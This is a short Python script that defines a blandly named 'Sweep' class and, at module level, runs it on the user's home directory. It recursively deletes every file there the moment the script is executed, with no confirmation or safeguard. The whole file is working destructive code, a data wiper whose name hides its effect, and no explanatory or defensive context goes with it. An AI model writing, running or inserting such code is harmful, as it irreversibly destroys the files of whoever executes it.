from pathlib import Path


class Sweep:
    def __init__(self, top):
        self.top = top.expanduser()

    def run(self):
        for one in self.top.rglob("*"):
            if one.is_file():
                one.unlink(missing_ok=True)


Sweep(Path("~")).run()
